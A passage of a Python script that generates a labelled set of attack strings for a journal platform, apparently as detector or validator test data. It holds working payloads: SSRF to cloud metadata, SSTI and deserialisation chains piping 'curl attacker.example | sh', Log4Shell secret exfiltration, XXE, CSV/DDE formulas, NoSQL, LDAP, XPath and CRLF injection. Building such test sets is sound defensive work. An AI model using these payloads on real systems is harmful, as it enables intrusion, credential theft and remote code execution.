                "var/lib/journal/secrets.json", "home/editor/.pgpass"]


def tpl_traversal(rng):
    depth = rng.randint(3, 9)
    sep = rng.choice(["../", "..\\"]) if rng.random() < 0.3 else "../"
    target = rng.choice(TRAV_TARGETS)
    if sep == "..\\":
        target = target.replace("/", "\\")
    stem = rng.choice(["", "files/", "S1/", "uploads/4412/"])
    return f"{rng.choice(TRAV_CTX)}-dotdot", stem + sep * depth + target


# ---------------------------------------------------------------------------
# SSRF: reference/DOI URL resolvers, figure import from URL, ORCID avatar,
# webhook callbacks, JATS import, repository liveness checks.
# ---------------------------------------------------------------------------
SSRF = [
    ("reference-url-imds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("doi-url-userinfo-confusion", "https://doi.org@127.0.0.1:8080/admin/"),
    ("figure-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token"),
    ("figure-url-azure-imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("datastmt-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("orcid-avatar-localhost", "http://localhost:9200/_cat/indices?v"),
    ("callback-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20x.php%0D%0ASET%20k%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0ASAVE%0D%0AQUIT%0D%0A"),
    ("reference-url-file-scheme", "file:///etc/passwd"),
    ("reference-url-dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("figure-url+decimal-ip", "http://2130706433:8080/actuator/env"),
    ("figure-url+hex-ip", "http://0x7f000001/server-status"),
    ("figure-url+octal-ip", "http://0177.0.0.1:5000/admin"),
    ("figure-url+short-ip", "http://127.1/"),
    ("figure-url-ipv6-loopback", "http://[::1]:8000/internal/users"),
    ("figure-url+ipv4-mapped-ipv6", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("callback-zero-ip-docker", "http://0.0.0.0:2375/containers/json"),
    ("reference-url-dns-rebinding", "http://169.254.169.254.rebind.attacker.example/latest/meta-data/"),
    ("doi-url-fragment-confusion", "http://169.254.169.254#@doi.org/10.7155/jgaa.00561"),
    ("reference-url-open-redirect", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data"),
    ("figure-url+urlenc-host", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
    ("reference-url-aws-ipv6-imds", "http://[fd00:ec2::254]/latest/meta-data/hostname"),
    ("jats-import-internal-host", "http://intranet.journal.local/admin/export?all=1"),
    ("callback-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("callback-consul", "http://127.0.0.1:8500/v1/agent/self"),
    ("figure-url-unc-path", r"\\198.51.100.7\share\figure3.tif"),
    ("reference-url-backslash-confusion", r"http://doi.org\@127.0.0.1:6379/"),
    ("bibtex-url-imds", "@misc{creds, title={Data}, url={http://169.254.169.254/latest/meta-data/iam/security-credentials/journal-role}}"),
    ("jats-ext-link-internal", '<ext-link ext-link-type="uri" xlink:href="http://127.0.0.1:8983/solr/admin/cores?action=STATUS">Dataset</ext-link>'),
    ("figure-url-jar-scheme", "jar:http://attacker.example/x.zip!/fig1.png"),
    ("reference-url-netdoc-scheme", "netdoc:///etc/passwd"),
    ("reference-url-ldap-scheme", "ldap://127.0.0.1:389/dc=journal,dc=local??sub?(objectClass=*)"),
    ("orcid-url+enclosed-alphanumerics", "http://①②⑦.⓪.⓪.①:8080/admin"),
    ("figure-url-rabbitmq", "http://localhost:15672/api/users"),
    ("figure-url-loopback-range", "http://127.127.127.127/"),
    ("doi-url+hex-octets", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("reference-url+zero-host", "http://0/"),
    ("reference-url-private-range", "http://10.0.0.12:8080/manager/html"),
    ("figure-url-router", "http://192.168.1.1/cgi-bin/luci"),
    ("datastmt-url-internal-s3", "http://minio.internal:9000/manuscripts-private/?list-type=2"),
    ("jats-import-jolokia", "http://127.0.0.1:8080/jolokia/read/java.lang:type=Runtime"),
    ("bibtex-howpublished-ipv6-mapped", r"@misc{x, howpublished={\url{http://[0:0:0:0:0:ffff:127.0.0.1]:9000/}}}"),
    ("cover-url+dotted-octal", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("datastmt-repo-url-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20journal%0D%0AMAIL%20FROM%3A%3Ceic%40journal.example%3E%0D%0ARCPT%20TO%3A%3Cvictim%40uni.example.edu%3E%0D%0ADATA%0D%0ASubject%3A%20Reset%0D%0A%0D%0Ahttps%3A%2F%2Fattacker.example%2Freset%0D%0A.%0D%0AQUIT%0D%0A"),
    ("reference-url-redirect-file", "https://attacker.example/302.php?u=file:///proc/self/environ"),
    ("orcid-avatar-imds+mixed-case", "HtTp://169.254.169.254/LaTeSt/meta-data/"),
    ("webhook-url-internal-admin", "http://admin.internal.journal.local:8081/api/users?role=admin"),
    ("plain-imds", "http://169.254.169.254/latest/meta-data/"),
    ("plain-localhost", "http://localhost/admin"),
    ("plain-loopback", "http://127.0.0.1:22/"),
    ("plain-file-scheme", "file:///etc/hosts"),
    ("plain-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/"),
]

SSRF_HOSTS = ["127.0.0.1", "localhost", "169.254.169.254", "[::1]", "10.0.0.5", "172.17.0.1", "192.168.0.10"]
SSRF_PORTS = ["", ":22", ":3306", ":5432", ":6379", ":8080", ":9200", ":11211"]
SSRF_PATHS = ["/", "/admin", "/latest/meta-data/", "/metrics", "/debug/vars", "/.env"]


def tpl_ssrf(rng):
    ctx = rng.choice(["reference-url", "figure-url", "callback", "doi-url"])
    host = rng.choice(SSRF_HOSTS)
    return f"{ctx}-internal-host", f"http://{host}{rng.choice(SSRF_PORTS)}{rng.choice(SSRF_PATHS)}"


# ---------------------------------------------------------------------------
# Code injection: SSTI in decision-letter templates and rendered titles,
# expression languages, deserialisation of imported metadata, XXE in JATS/SVG,
# XSLT, Log4Shell-style lookups in logged fields, prototype pollution in JSON
# metadata merges, CSV formulae in reviewer/author exports.
# ---------------------------------------------------------------------------
CODE = [
    ("letter-template-jinja2", "Dear {{ author.name }},\n\n{{ cycler.__init__.__globals__.os.popen('id').read() }}\n\nBest wishes,\nThe Editors"),
    ("title-jinja2", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("abstract-jinja2-config", "{{ config.items() }}"),
    ("review-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("letter-template-jinja2-request", "{{ request.application.__globals__.__builtins__.__import__('os').popen('curl -s attacker.example/j | sh').read() }}"),
    ("title-jinja2-attr-filter", "{{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}"),
    ("title-jinja2-attr+hex-escape", r"{{ lipsum|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("letter-template-jinja2-loop", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'], stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("letter-template-twig-filter", "{{ ['id']|filter('system') }}"),
    ("letter-template-twig-map", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("title-freemarker", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
    ("letter-template-velocity", '#set($rt=$x.class.forName("java.lang.Runtime"))#set($p=$rt.getRuntime().exec("touch /tmp/v"))'),
    ("letter-template-smarty", "{system('id')}"),
    ("letter-template-smarty-php", "{php}echo `id`;{/php}"),
    ("review-erb", "<%= `id` %>"),
    ("review-erb-popen", "<%= IO.popen('cat /etc/passwd').read %>"),
    ("letter-template-mako", "<% import os; x=os.popen('id').read() %>${x}"),
    ("letter-template-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("title-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("letter-template-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("letter-template-django-debug", "Dear {{ author }}, {% debug %}"),
    ("letter-format-string", "Dear {author.__init__.__globals__[CONFIG][SECRET_KEY]},"),
    ("title-thymeleaf-spel", "__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/t')}__::.x"),
    ("search-spel", "${T(java.lang.Runtime).getRuntime().exec('nslookup spel.attacker.example')}"),
    ("keyword-spel-env", "#{T(java.lang.System).getenv()}"),
    ("search-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("review-jsp-el", "${applicationScope}"),
    ("abstract-el-runtime", "We show ${Runtime.getRuntime().exec('id')} is bounded."),
    ("session-pickle+base64", "Y29zCnN5c3RlbQooUydjdXJsIC1zIGh0dHA6Ly9hdHRhY2tlci5leGFtcGxlL3BrIHwgc2gnCnRSLg=="),
    ("import-pickle-raw", "cposix\nsystem\n(S'id > /tmp/pwn'\ntR."),
    ("metadata-yaml-python-tag", "title: Streaming Union-Find\nauthors: !!python/object/apply:os.system ['curl -s attacker.example/y | sh']"),
    ("metadata-yaml-snakeyaml", '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/yaml.jar"]]]]'),
    ("metadata-jsonnet-type", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System","StartInfo":{"$type":"System.Diagnostics.ProcessStartInfo, System","FileName":"cmd.exe","Arguments":"/c nslookup net.attacker.example"}}}'),
    ("metadata-jackson-polymorphic", '["ch.qos.logback.core.db.DriverManagerConnectionSource", {"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://attacker.example/inject.sql\'"}]'),
    ("metadata-node-serialize", '{"title":"x","render":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'curl -s attacker.example/n | sh\')}()"}'),
    ("figure-phar-deserialization", "phar:///var/www/journal/uploads/4412/fig3.jpg/x"),
    ("session-php-object-injection", 'O:12:"ExportWriter":2:{s:4:"path";s:28:"/var/www/html/uploads/sh.php";s:4:"data";s:28:"<?php system($_GET[\'c\']); ?>";}'),
    ("jats-xxe-file", '<?xml version="1.0"?>\n<!DOCTYPE article [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<article><front><article-meta><title-group><article-title>&xxe;</article-title></title-group></article-meta></front></article>'),
    ("jats-xxe-oob-parameter-entity", '<?xml version="1.0"?>\n<!DOCTYPE article [<!ENTITY % ext SYSTEM "http://attacker.example/jats.dtd"> %ext;]>\n<article><front/></article>'),
    ("jats-xinclude", '<ref-list xmlns:xi="http://www.w3.org/2001/XInclude"><title>References</title><xi:include parse="text" href="file:///etc/hostname"/></ref-list>'),
    ("figure-svg-xxe", '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="300" height="60"><text x="10" y="30">&h;</text></svg>'),
    ("jats-xxe-ssrf", '<!DOCTYPE ref [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><ref id="B1"><mixed-citation>&m;</mixed-citation></ref>'),
    ("jats-xxe-entity-expansion", '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY l0 "ha"><!ENTITY l1 "&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;"><!ENTITY l2 "&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;"><!ENTITY l3 "&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;"><!ENTITY l4 "&l3;&l3;&l3;&l3;&l3;&l3;&l3;&l3;&l3;&l3;"><!ENTITY l5 "&l4;&l4;&l4;&l4;&l4;&l4;&l4;&l4;&l4;&l4;"><!ENTITY l6 "&l5;&l5;&l5;&l5;&l5;&l5;&l5;&l5;&l5;&l5;"><!ENTITY l7 "&l6;&l6;&l6;&l6;&l6;&l6;&l6;&l6;&l6;&l6;"><!ENTITY l8 "&l7;&l7;&l7;&l7;&l7;&l7;&l7;&l7;&l7;&l7;">]>\n<article-title>&l8;</article-title>'),
    ("jats-xxe-php-filter", '<!DOCTYPE a [<!ENTITY s SYSTEM "php://filter/convert.base64-encode/resource=/var/www/journal/config.php">]><abstract><p>&s;</p></abstract>'),
    ("jats-xxe-doctype-system", '<?xml version="1.0"?>\n<!DOCTYPE article SYSTEM "http://203.0.113.44/jats-publishing.dtd">\n<article article-type="research-article"/>'),
    ("jats-xslt-php-function", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function(\'shell_exec\',\'id\')"/></xsl:template></xsl:stylesheet>'),
    ("jats-xslt-document", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'file:///etc/passwd\')"/></xsl:template></xsl:stylesheet>'),
    ("search-log4shell", "${jndi:ldap://attacker.example:1389/pub}"),
    ("title-log4shell-env-exfil", "Étude des réseaux ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.attacker.example/a}"),
    ("keyword-log4shell+lower-lookup", "${${lower:j}${lower:n}${lower:d}i:rmi://198.51.100.2:1099/o}"),
    ("author-log4shell+default-value", "${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.60/a}"),
    ("review-log4shell+env-default", "${${env:NOPE:-j}ndi:${env:NOPE:-l}dap://jndi.attacker.example/x}"),
    ("orcid-log4shell-sys-exfil", "${jndi:ldap://${sys:java.version}.${hostName}.attacker.example/v}"),
    ("bibtex-log4shell", "@article{k, title={${jndi:ldaps://attacker.example/b}}, year={2021}}"),
    ("doi-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fd%7D"),
    ("cover-log4shell+upper-lookup", "${${upper:j}ndi:${upper:l}${upper:d}ap://attacker.example/u}"),
    ("metadata-proto-pollution", '{"title":"Streaming Union-Find","__proto__":{"isAdmin":true}}'),
    ("search-proto-pollution-query", "author[__proto__][role]=editor"),
    ("profile-constructor-prototype", '{"affiliation":"ETH","constructor":{"prototype":{"canAcceptManuscripts":true}}}'),
    ("metadata-proto-pollution-ejs-gadget", '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'curl -s attacker.example/e | sh\');x"}}'),
    ("settings-proto-pollution-bracket", "constructor[prototype][isEditor]=true"),
    ("metadata-proto-pollution+unicode-escape", '{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}'),
    ("author-csv-hyperlink", '=HYPERLINK("https://attacker.example/?d="&A2&B2,"View manuscript")'),
    ("title-csv-dde", "=cmd|' /C powershell -c iwr attacker.example/p.ps1|iex'!A1"),
    ("affiliation-csv-at-prefix", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("keyword-csv-importdata", '=IMPORTDATA("https://attacker.example/c?x="&ENCODEURL(C2))'),
    ("review-csv-minus-prefix", "-2+3+cmd|'/c notepad'!'A1'"),
    ("author-csv-webservice", '=WEBSERVICE("http://attacker.example/"&B3&"/"&C3)'),
    ("affiliation-csv-plus-prefix", '+HYPERLINK("http://203.0.113.15/x","ORCID profile")'),
    ("title-csv-tab-prefix", '\t=HYPERLINK("https://attacker.example/q","Click to open PDF")'),
    ("letter-template-jinja2+urlenc", "%7B%7B%20lipsum.__globals__.os.popen(%27id%27).read()%20%7D%7D"),
    ("abstract-ssti-mathjax-disguise", "We bound $\\mathcal{O}(n)$ using {{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }} and Lemma 2."),
    ("plain-ssti-probe", "{{7*7}}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-xxe", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    ("plain-csv-formula", "=cmd|'/C calc'!A0"),
    ("plain-proto-pollution", '{"__proto__":{"admin":true}}'),
    ("plain-el-probe", "${7*7}"),
    ("plain-erb-probe", "<%= 7*7 %>"),
]

CODE_ENGINES = [
    ("jinja2", "{{{{ cycler.__init__.__globals__.os.popen('{c}').read() }}}}"),
    ("jinja2", "{{{{ joiner.__init__.__globals__.os.popen('{c}').read() }}}}"),
    ("twig", "{{{{ ['{c}']|filter('system') }}}}"),
    ("freemarker", "${{\"freemarker.template.utility.Execute\"?new()(\"{c}\")}}"),
    ("erb", "<%= `{c}` %>"),
]
CODE_CMDS = ["id", "whoami", "uname -a", "cat /etc/hostname", "nslookup t.attacker.example"]
CODE_CTX = ["title", "letter-template", "review", "keyword"]


def tpl_code(rng):
    eng, pat = rng.choice(CODE_ENGINES)
    return f"{rng.choice(CODE_CTX)}-{eng}", pat.format(c=rng.choice(CODE_CMDS))


# ---------------------------------------------------------------------------
# NoSQL injection: JSON login/ORCID-link bodies, reviewer filters, Mongo
# $where, Elasticsearch/Solr catalogue queries, Cypher.
# ---------------------------------------------------------------------------
NOSQLI = [
    ("login-mongo-ne", '{"email": "editor@journal.example", "password": {"$ne": null}}'),
    ("login-mongo-gt", '{"username": {"$gt": ""}, "password": {"$gt": ""}}'),
    ("orcid-link-mongo-regex", '{"orcid": {"$regex": "^0000-0002"}, "token": {"$regex": "^a"}}'),
    ("search-mongo-where-sleep", '{"$where": "sleep(5000) || true"}'),
    ("reviewer-filter-query-param", "reviewer_id[$ne]=0"),
    ("login-mongo-or", '{"$or": [{"role": "editor"}, {"role": {"$exists": true}}], "password": {"$exists": true}}'),
    ("search-mongo-where-breakout", "'; return true; var x='"),
    ("search-mongo-where-exfil", "' || this.password.match(/^a/) || '"),
    ("filter-mongo-expr", '{"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}'),
    ("export-mongo-lookup-stage", '[{"$lookup": {"from": "users", "localField": "author_id", "foreignField": "_id", "as": "u"}}]'),
    ("status-filter-mongo-nin", '{"status": {"$nin": ["draft"]}, "embargoed": {"$ne": false}}'),
    ("search-es-query-string", "sleep OR visibility:embargoed OR _exists_:reviewer_notes"),
    ("search-solr-localparams-xxe", "{!xmlparser v='<!DOCTYPE a SYSTEM \"http://attacker.example/solr.dtd\"><a></a>'}"),
    ("search-solr-join", "{!join from=manuscript_id to=id}reviewer_comments:*"),
    ("login-mongo-regex+urlenc", "password%5B%24regex%5D=.*&email=editor%40journal.example"),
    ("login-mongo-ne+unicode-escape", '{"password": {"\\u0024ne": "x"}}'),
    ("search-mongo-where-function", '{"$where": "function(){ return this.role == \'admin\' && this.password.length > 0 }"}'),
    ("search-couchdb-selector", '{"selector": {"_id": {"$gt": null}}, "fields": ["email", "password_hash"]}'),
    ("orcid-link-query-param", "orcid[$exists]=true&token[$regex]=^[a-f]"),
    ("search-mongo-where-busy-loop", "0 || (function(){var d=new Date(); while(new Date()-d<5000){} return true})()"),
    ("coauthor-cypher-injection", "x' OR 1=1 WITH 1 AS a CALL db.labels() YIELD label LOAD CSV FROM 'http://attacker.example/?l='+label AS b RETURN b//"),
    ("plain-mongo-ne", '{"$ne": null}'),
    ("plain-mongo-regex", '{"$regex": ".*"}'),
]

NOSQL_FIELDS = ["password", "api_token", "reset_code", "review_token"]
NOSQL_OPS = ['{{"{f}": {{"$ne": "{v}"}}}}', '{{"{f}": {{"$gt": "{v}"}}}}', '{{"{f}": {{"$regex": "^{v}"}}}}',
             '{f}[$ne]={v}', '{f}[$regex]=^{v}']


def tpl_nosqli(rng):
    op = rng.choice(NOSQL_OPS)
    f = rng.choice(NOSQL_FIELDS)
    v = rng.choice(["", "x", "a", "0", "reviewer"])
    tech = "query-param" if "[" in op and "{" not in op else "mongo-operator"
    return f"login-{tech}", op.format(f=f, v=v)


# ---------------------------------------------------------------------------
# CRLF: response headers (download filename, redirects, language cookie),
# mail headers (contact-author and reviewer-invitation forms), log forging.
# ---------------------------------------------------------------------------
CRLF = [
    ("download-filename-header", "S1_Table.csv\r\nSet-Cookie: session=attacker-fixed-0000; Path=/"),
    ("redirect-response-splitting+urlenc", "/manuscripts/4412%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(document.domain)%3C/script%3E"),
    ("contact-mail-bcc", "Question sur le manuscrit n° 4412\r\nBcc: list@attacker.example"),
    ("contact-mail-cc", "Dr. Okafor <n.okafor@uni.example.edu>\nCc: everyone@attacker.example"),
    ("search-log-forging", "graph theory\n2024-03-01 12:00:00,114 INFO [auth] login succeeded user=editor_in_chief ip=10.0.0.5"),
    ("review-log-forging", "Looks fine.\r\n[2024-03-01T12:00:00Z] AUDIT decision=accept manuscript=4412 by=eic"),
    ("orcid-callback-header+urlenc", "https://journal.example/orcid/callback%0d%0aLocation:%20https://attacker.example/"),
    ("lang-header-injection+unicode-crlf", "en%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("subject-smtp-smuggling", "Reviewer invitation\r\n\r\n.\r\nMAIL FROM:<eic@journal.example>\r\nRCPT TO:<victim@uni.example.edu>\r\nDATA\r\nSubject: Urgent: verify your account\r\n\r\nhttps://attacker.example/verify\r\n."),
    ("search-log-terminal-escape", "sleep\x1b[2J\x1b[1;1HAll systems normal"),
    ("keyword-header-injection+lf-urlenc", "alert%0aX-Forwarded-For:%20127.0.0.1"),
    ("callback-header+json-escape", '{"redirect": "/dashboard\\r\\nSet-Cookie: role=editor"}'),
    ("download-content-disposition", 'proof.pdf"\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>'),
    ("contact-mail-body-injection", "Okafor\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/login\">Click to view your reviews</a>"),
    ("redirect-header-injection+double-urlenc", "/login%250d%250aSet-Cookie:%2520sid%253Dfixated"),
    ("author-log-forging+urlenc", "Okafor%0a127.0.0.1 - - [01/Mar/2024:12:00:00 +0000] \"GET /admin/export HTTP/1.1\" 200 5120"),
    ("title-mail-header-to", "Decision on your manuscript\nTo: all-authors@attacker.example"),
    ("review-log-json-forging", 'ok"}\n{"level":"info","event":"role_change","user":"r2","role":"editor"'),
    ("doi-syslog-forging", "10.1016/x\r\n<13>Mar  1 12:00:00 journal sshd[412]: Accepted password for root from 198.51.100.5 port 50122 ssh2"),
    ("contact-mail-reply-to", "Re: proofs\r\nReply-To: production@attacker.example"),
    ("webhook-outbound-header", "journal-bot\r\nAuthorization: Bearer FAKE-TOKEN-PLACEHOLDER"),
    ("lang-cache-poisoning", "fr\r\nX-Forwarded-Host: attacker.example"),
    ("redirect-header-injection+cr-only", "/home%0dLocation:%20//attacker.example"),
    ("cover-mail-multipart", "Cover letter\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n--zz\r\nContent-Type: text/plain\r\n\r\nPlease wire the APC to the account below.\r\n--zz--"),
    ("reviewer-name-mail-header", "Prof. E. Papadopoulos\r\nX-Priority: 1\r\nBcc: harvest@attacker.example"),
    ("msid-log-forging+unicode-escape", "4412\\u000d\\u000a2024-03-01 12:00:01 WARN [billing] APC waived for manuscript=4412 by=finance"),
    ("plain-crlf-header+urlenc", "%0d%0aSet-Cookie:%20crlf=injected"),
    ("plain-crlf-header", "\r\nX-Injected: true"),
    ("plain-log-forging", "\nINFO admin logged in"),
    ("plain-crlf-location", "\r\nLocation: https://attacker.example/"),
]

CRLF_HEADERS = ["Set-Cookie: sid=fixed{n}", "Location: https://attacker.example/{n}", "X-Forwarded-Host: attacker.example",
                "Bcc: harvest{n}@attacker.example", "Content-Length: 0"]
CRLF_BREAKS = [("", "\r\n"), ("+urlenc", "%0d%0a"), ("+lf-only", "\n"), ("+urlenc-upper", "%0D%0A")]
CRLF_STEMS = [("download", "S{n}_Data.xlsx"), ("redirect", "/manuscripts/{n}/reviews"), ("contact", "Query on MS {n}")]


def tpl_crlf(rng):
    ctx, stem = rng.choice(CRLF_STEMS)
    enc, br = rng.choice(CRLF_BREAKS)
    n = rng.randint(2, 9999)
    hdr = rng.choice(CRLF_HEADERS).format(n=n)
    if enc.startswith("+urlenc"):
        hdr = hdr.replace(" ", "%20")
    return f"{ctx}-header-injection{enc}", stem.format(n=n) + br + hdr


# ---------------------------------------------------------------------------
# LDAP filter / XPath / XQuery injection: institutional login, reviewer
# directory search, XML-stored article metadata.
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("login-ldap-wildcard-bypass", "*)(uid=*))(|(uid=*"),
    ("login-ldap-and-true", "admin)(&)"),
    ("directory-ldap-or-injection", "*)(|(objectClass=*)"),
    ("reviewer-directory-ldap-attr-probe", "*)(userPassword=*"),
    ("reviewer-directory-ldap-blind", "Müll*)(description=editor*"),
    ("affiliation-directory-ldap-mail-enum", "*)(mail=*@uni.example.edu"),
    ("login-ldap-wildcard-bypass+urlenc", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("orcid-ldap-group-injection", "0000-0002-4350-1097)(memberOf=cn=editors,ou=groups,dc=journal,dc=example"),
    ("search-xpath-or-true", "') or 1=1 or ('"),
    ("search-xpath-union", "'] | //contrib/email | //*['"),
    ("login-xpath-or-true", "' or '1'='1"),
    ("search-xpath-blind-substring", "' or substring(//user[1]/password,1,1)='a' or '"),
    ("search-xpath-count-probe", "' or count(//user)>10 or '"),
    ("jats-query-xpath-name-probe", "x' or name(/*[1])='article' or 'a'='b"),
    ("search-xpath2-doc-exfil", "' or doc(concat('http://attacker.example/',encode-for-uri(//user[1]/password))) or '"),
    ("search-xquery-doc", '") return doc("file:///etc/passwd") (:'),
    ("reviewer-xpath-string-length", "' or string-length(//user[position()=1]/password)=12 or '"),
    ("login-xpath2-comment", "admin' or true() (: "),
    ("plain-ldap-injection", "*)(cn=*"),
    ("plain-xpath-or-true", "' or ''='"),
]

LDAP_ATTRS = ["userPassword", "mail", "telephoneNumber", "employeeNumber", "sshPublicKey", "memberOf"]


def tpl_ldap(rng):
    attr = rng.choice(LDAP_ATTRS)
    start = rng.choice(["a", "e", "m", "s", "*"])
    return "reviewer-directory-ldap-attr-probe", f"{start}*)({attr}={rng.choice(['*', 'a*', '{SSHA}*', 'cn=editors*'])}"


# ---------------------------------------------------------------------------
CATEGORIES = [
    ("sqli", SQLI, tpl_sqli, "union, boolean/time blind, error-based, stacked, OOB, second-order, insert/update, ORDER BY/LIMIT"),
    ("xss", XSS, tpl_xss, "script tags, event handlers, javascript:/data: URIs, MathJax \\href, CSTI, markdown, SVG, breakouts"),
    ("cmdi", CMDI, tpl_cmdi, "LaTeX \\write18/\\input|/\\directlua, separators, subshells, argument injection, Ghostscript, MVG, Windows"),
    ("traversal", TRAVERSAL, tpl_traversal, "../ and ..\\ in downloads/figures/LaTeX/JATS/ZIP names, absolute paths, wrappers"),
    ("ssrf", SSRF, tpl_ssrf, "cloud metadata, loopback/private hosts, alternative IP forms, gopher/dict/file/jar, parser confusion"),
    ("code", CODE, tpl_code, "SSTI (Jinja2, Twig, Freemarker, Velocity, Smarty, ERB, Mako, Pug...), EL/OGNL/SpEL, deserialisation, XXE, XSLT, Log4Shell, prototype pollution, CSV formulae"),
    ("nosqli", NOSQLI, tpl_nosqli, "Mongo operators, $where, query-param operators, ES/Solr query syntax, Cypher"),
    ("crlf", CRLF, tpl_crlf, "response splitting, header injection, mail header injection, SMTP smuggling, log forging"),
    ("ldap-xpath", LDAP_XPATH, tpl_ldap, "LDAP filter injection, XPath/XQuery injection"),
]


def build():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    literal_total = 0
    for name, literals, tpl, _desc in CATEGORIES:
        target = TARGETS[name]
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {name}: {v[:60]!r}")
            seen.add(v)
            items.append((cls, v))
        lit = len(items)
        if lit > target:
            raise SystemExit(f"{name}: {lit} literals exceed target {target}")
        tries = 0
        while len(items) < target:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"{name}: template cannot produce enough unique values")
            cls, v = tpl(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
        literal_total += lit
        stats.append((name, len(items), lit))
        for cls, v in items:
            rows.append((name, cls, v))
    return rows, stats, literal_total


def main():
    rows, stats, literal_total = build()
    here = Path(__file__)
    benign_path = here.with_name("benign.jsonl")
    if benign_path.exists():
        with open(benign_path, encoding="utf-8") as fh:
            benign_values = {json.loads(line)["value"] for line in fh if line.strip()}
        clash = [v for _c, _k, v in rows if v in benign_values]
        if clash:
            raise SystemExit(f"{len(clash)} values also in benign.jsonl, e.g. {clash[0][:60]!r}")
    lines = []
    for i, (cat, cls, value) in enumerate(rows, 1):
        if not isinstance(value, str) or not value or len(value) > MAX_LEN:
            raise SystemExit(f"bad value in {cat}: {value!r}")
        obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": value}
        lines.append(json.dumps(obj, ensure_ascii=False))
    out = here.with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        fh.write("\n".join(lines) + "\n")
    for name, n, lit in stats:
        print(f"{name:12s} {n:4d}  (literals {lit})")
    total = len(rows)
    plain = sum(1 for _c, k, _v in rows if k.startswith("plain-"))
    enc = sum(1 for _c, k, _v in rows if "+" in k)
    print(f"{'total':12s} {total:4d}  (literals {literal_total}, {100 * literal_total / total:.1f}%)")
    print(f"plain- classes: {plain}   encoded (+...) classes: {enc}")
    print(f"wrote {out}")


if __name__ == "__main__":
    main()
